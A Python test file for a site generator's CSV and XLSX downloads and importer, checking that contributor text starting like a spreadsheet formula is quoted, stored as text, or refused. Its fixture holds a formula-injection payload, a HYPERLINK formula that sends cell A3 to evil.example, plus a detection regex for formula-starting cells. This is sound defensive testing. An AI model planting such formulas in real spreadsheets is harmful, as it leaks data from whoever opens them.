"""Formulas in the form's spreadsheets (OWASP's rule for CSV injection). Whatever a contributor
writes, the downloads hold text, never a formula: the CSV quotes every field and puts a single
quote in front of a cell a spreadsheet would run; the XLSX has no formula cell at all, only text
cells. The importer never calculates a formula: a row with one in the form's columns is refused
with a sentence, text that merely starts with "=" is imported as written, and a download imports
back exactly as it went out."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from generator import form
from generator.load import load
from generator.officers.importer import run_import
from generator.publish import downloads
from hostile_sheets import GOOD_ROW, HEADERS, MAIN, cell, worksheet, xlsx

TODAY = dt.date(2024, 3, 1)
OFFICE = 'name: {bn: "জনপ্রশাসন মন্ত্রণালয়", en: "Ministry of Public Administration"}\nkind: ministry\n'
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A3,"{}")'
IDEAS = {  # slug → the form's fields, as a contributor might write them
    "mopa-hyperlink": {
        "title": {"bn": HYPERLINK.format("বিস্তারিত"), "en": HYPERLINK.format("Details")},
        "summary": {"bn": "- ৩০% কম সময়", "en": "- 30% less time"},  # a dash that is just a dash
        "service": {"running": False, "not_running_reason": "+ the server moved", "expected_result": "partly",
                    "remarks": "@SUM(1+1)"},
    },
    "mopa-quoted": {
        "title": "'=already quoted",
        "summary": "＠mention and ＝full width",
        "service": {"running": True, "remarks": "-1", "link": "https://mopa.gov.bd/=x"},
    },
}
# OWASP's characters, and their full-width forms, at the start of a cell or after spaces
RUNS = re.compile(r"^\s*[=+\-@＝＋－＠]|^[\t\r]")


def _bank(root: Path) -> Path:
    (root / "content" / "offices").mkdir(parents=True)
    (root / "content" / "ideas").mkdir()
    (root / "content" / "offices" / "mopa.yaml").write_text(OFFICE, encoding="utf-8")
    return root


@pytest.fixture
def ideas(tmp_path: Path) -> list:
    root = _bank(tmp_path / "bank")
    for slug, fields in IDEAS.items():
        data = {**fields, "kind": "simplification", "status": "implemented", "office": "mopa",
                "dates": {"implemented": "2024-01-01"}}
        (root / "content" / "ideas" / f"{slug}.md").write_text(f"---\n{json.dumps(data, ensure_ascii=False)}\n---\nবিবরণ।\n",
                                                               encoding="utf-8")
    bank, problems = load(root / "content")
    assert problems == []
    return [bank.ideas[slug].item for slug in IDEAS]


# ---- the downloads --------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["bn", "en"])
def test_the_csv_download_quotes_every_cell_a_spreadsheet_would_run(ideas, lang):
    text = downloads.csv_bytes(ideas, lang).decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert records[0] == form.headers(lang)
    assert not [c for row in records for c in row if RUNS.match(c)]
    title = HYPERLINK.format("বিস্তারিত" if lang == "bn" else "Details")
    summary = "- ৩০% কম সময়" if lang == "bn" else "- 30% less time"
    assert records[1] == ["'" + title, "'" + summary, form.answer(False, lang), "'+ the server moved",
                          form.answer("partly", lang), "", "'@SUM(1+1)"]
    assert records[2] == ["''=already quoted", "'＠mention and ＝full width", form.answer(True, lang), "", "",
                          "https://mopa.gov.bd/=x", "'-1"]
    # every field is quoted, the formula ones too, as OWASP asks
    assert re.fullmatch(r'("(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n)+', text)


@pytest.mark.parametrize("lang", ["bn", "en"])
def test_the_xlsx_download_has_text_cells_and_no_formula(ideas, lang):
    data = downloads.xlsx_bytes(ideas, lang)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
        styles = ET.fromstring(book.read("xl/styles.xml"))
        strings = ET.fromstring(book.read("xl/sharedStrings.xml"))
    m = {"m": MAIN}
    assert sheet.findall(".//m:f", m) == [], "no formula element"
    shared = ["".join(t.text or "" for t in si.iter(f"{{{MAIN}}}t")) for si in strings.findall("m:si", m)]
    cells = sheet.findall(".//m:c", m)
    assert {c.get("t") for c in cells} == {"s"}, "every cell written is a text cell (empty ones are not written)"
    texts = [["" for _ in range(7)] for _ in sheet.findall(".//m:row", m)]
    for c in cells:
        column, row = ord(c.get("r")[0]) - ord("A"), int(c.get("r")[1:]) - 1
        texts[row][column] = shared[int(c.find("m:v", m).text)]
    assert texts == [form.headers(lang)] + form.rows(ideas, lang), "the text exactly as written, no quote added"
    # a cell that starts like a formula carries Excel's quote-prefix mark, so editing it keeps it text
    quoted = {str(i) for i, xf in enumerate(styles.find("m:cellXfs", m)) if xf.get("quotePrefix") == "1"}
    marked = {c.get("r") for c in cells if c.get("s") in quoted}
    assert marked == {f"{chr(65 + x)}{y + 1}" for y, row in enumerate(texts) for x, t in enumerate(row)
                      if RUNS.match(t.lstrip("'"))}
    assert downloads.xlsx_bytes(ideas, lang) == data, "the same rows give the same bytes"
    # and a spreadsheet program reads them as text
    read = load_workbook(io.BytesIO(data)).active
    assert {c.data_type for row in read.iter_rows() for c in row} <= {"s", "inlineStr"}
    assert [[c.value or "" for c in row] for row in read.iter_rows()] == texts


def test_the_published_downloads_are_the_form_in_either_order(ideas):
    """The site's CSV and workbook of a language are made from one set of cells (downloads._Cells):
    each file is what csv_bytes / xlsx_bytes give for its language, whichever of the two is made
    first, and the other language's never takes them."""
    bank = SimpleNamespace(ideas={slug: SimpleNamespace(slug=slug, item=idea) for slug, idea in zip(IDEAS, ideas)},
                           offices={"mopa": None})
    rel = SimpleNamespace(bank=bank, ideas_by_office={"mopa": list(bank.ideas.values())})
    expected = {downloads.paths(oid, lang)[kind]: (downloads.csv_bytes if kind == "csv" else downloads.xlsx_bytes)(ideas, lang)
                for oid in (None, "mopa") for lang in ("bn", "en") for kind in ("csv", "xlsx")}
    for order in (1, -1):
        outputs = list(downloads.publish(rel).items())
        assert {path for path, _ in outputs} == expected.keys()
        made = {path: output.content(None) for path, output in outputs[::order]}
        assert made == expected
        assert made["data/form.bn.csv"] != made["data/form.en.csv"]


@pytest.mark.parametrize("lang, writer", [("bn", downloads.csv_bytes), ("en", downloads.csv_bytes),
                                          ("bn", downloads.xlsx_bytes), ("en", downloads.xlsx_bytes)])
def test_a_download_imports_back_exactly(ideas, tmp_path, lang, writer):
    other = _bank(tmp_path / "other")
    exported = other / ("form.xlsx" if writer is downloads.xlsx_bytes else "form.csv")
    exported.write_bytes(writer(ideas, lang))
    result = run_import(other, exported, "mopa", today=TODAY)
    assert [o.action for o in result.outcomes] == ["created", "created"], [r.en for o in result.outcomes for r in o.reasons]
    bank, problems = load(other / "content")
    assert problems == []
    back = {r.item.title.get(lang): r.item for r in bank.ideas.values()}
    assert form.rows([back[i.title.get(lang)] for i in ideas], lang) == form.rows(ideas, lang)
    assert back[ideas[0].title.get(lang)].summary.get(lang).startswith("- "), "a dash stays a dash"


# ---- the importer ---------------------------------------------------------------------------

def test_a_formula_in_the_form_is_refused_and_never_calculated(tmp_path):
    """Row 3 holds a formula with the result Excel saved, row 4 one with no result (as programs
    that do not calculate write it); both are refused, naming the column and the formula. Row 5
    is text that starts with "=", row 6 has a formula outside the form's columns: both imported."""
    root = _bank(tmp_path)
    rows = (
        '<row r="3"><c r="A3" t="str"><f>CONCATENATE("ভূমি"," সেবা")</f><v>ভূমি সেবা</v></c>'
        + cell("B3", "নামজারি।") + cell("C3", "হ্যাঁ") + "</row>"
        '<row r="4"><c r="A4"><f>1+1</f></c>' + cell("B4", "বিবরণ।") + cell("C4", "হ্যাঁ") + "</row>"
        '<row r="5">' + cell("A5", "=1+1") + cell("B5", "+ এক") + cell("C5", "হ্যাঁ") + "</row>"
        '<row r="6">' + cell("A6", "হেল্প ডেস্ক") + cell("B6", "বিবরণ।") + cell("C6", "হ্যাঁ")
        + '<c r="H6" t="str"><f>NOW()</f><v>45000</v></c></row>')
    (root / "form.xlsx").write_bytes(xlsx(worksheet(rows)))
    result = run_import(root, root / "form.xlsx", "mopa", today=TODAY)
    outcome = {o.row: o for o in result.outcomes}
    assert [outcome[n].action for n in (2, 3, 4, 5, 6)] == ["created", "skipped", "skipped", "created", "created"]
    header = f'A "{HEADERS[0]}"'
    assert [r.en for r in outcome[3].reasons] == [
        f'Column {header} holds a formula (=CONCATENATE("ভূমি"," সেবা")); the bank imports what a cell says, '
        "not a formula. In Excel copy the column, then Paste Special → Values, and import again."]
    assert "সূত্র" in outcome[3].reasons[0].bn
    assert outcome[4].reasons[0].en.startswith(f"Column {header} holds a formula (=1+1)")
    titles = {r.item.title.bn: r.item for r in load(root / "content")[0].ideas.values()}
    assert set(titles) == {GOOD_ROW[0], "=1+1", "হেল্প ডেস্ক"}
    assert titles["=1+1"].summary.bn == "+ এক"


def test_a_csv_cell_loses_the_quote_the_downloads_put_in_front(tmp_path):
    root = _bank(tmp_path)
    lines = [",".join(HEADERS), "'=1+1,'- ত্রিশ শতাংশ কম সময়,হ্যাঁ,,,,'@SUM(1+1)", "=2+2,''+ দুই,হ্যাঁ,,,,"]
    (root / "form.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run_import(root, root / "form.csv", "mopa", today=TODAY)
    assert [o.action for o in result.outcomes] == ["created", "created"]
    ideas = {r.item.title.bn: r.item for r in load(root / "content")[0].ideas.values()}
    assert ideas["=1+1"].summary.bn == "- ত্রিশ শতাংশ কম সময়" and ideas["=1+1"].service.remarks.bn == "@SUM(1+1)"
    assert ideas["=2+2"].summary.bn == "'+ দুই"  # one quote taken off, as as_text put one on


# ---- the rule -------------------------------------------------------------------------------

@pytest.mark.parametrize("text, runs", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
    ("  =1", True), ("\n=1", True), ("＝1", True), ("＋1", True), ("－1", True), ("＠x", True),
    ("'=1", True), ("''+1", True), ("- 30% less time", True),
    ("1-2", False), ("a=b", False), ("", False), ("  ", False), ("'", False), ("'a", False), ("−1", False),
    ("হ্যাঁ", False), ("https://x.gov.bd/=y", False),
])
def test_which_cells_a_spreadsheet_would_run(text, runs):
    assert form.starts_formula(text) is runs
    assert form.as_text(text) == ("'" + text if runs else text)


@given(st.text())
def test_as_text_then_from_text_gives_back_any_text(text):
    written = form.as_text(text)
    assert form.from_text(written) == text
    assert not RUNS.match(written)


def test_a_cell_that_runs_after_quotes_is_quoted_too(tmp_path):
    """The downloads ask once per first character whether a cell runs (form._runs); a cell that starts with
    quotes is still looked at whole (the loader trims the spaces a text starts with)."""
    root = _bank(tmp_path / "bank")
    starts = {"quotes": "''@SUM(1)", "quoted-text": "'plain", "quoted-dash": "'－1", "text": "plain=1", "dash": "-"}
    for slug, title in starts.items():
        data = {"title": title, "summary": "text", "kind": "simplification", "status": "implemented",
                "office": "mopa", "dates": {"implemented": "2024-01-01"}, "service": {"running": True}}
        (root / "content" / "ideas" / f"mopa-{slug}.md").write_text(
            f"---\n{json.dumps(data, ensure_ascii=False)}\n---\nবিবরণ।\n", encoding="utf-8")
    bank, problems = load(root / "content")
    assert problems == []
    ideas = [bank.ideas[slug].item for slug in sorted(bank.ideas)]
    text = downloads.csv_bytes(ideas, "bn").decode("utf-8-sig")
    titles = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert titles == ["'-", "''－1", "'plain", "'''@SUM(1)", "plain=1"]
    assert [form.from_text(t) for t in titles] == [idea.title.get("bn") for idea in ideas]
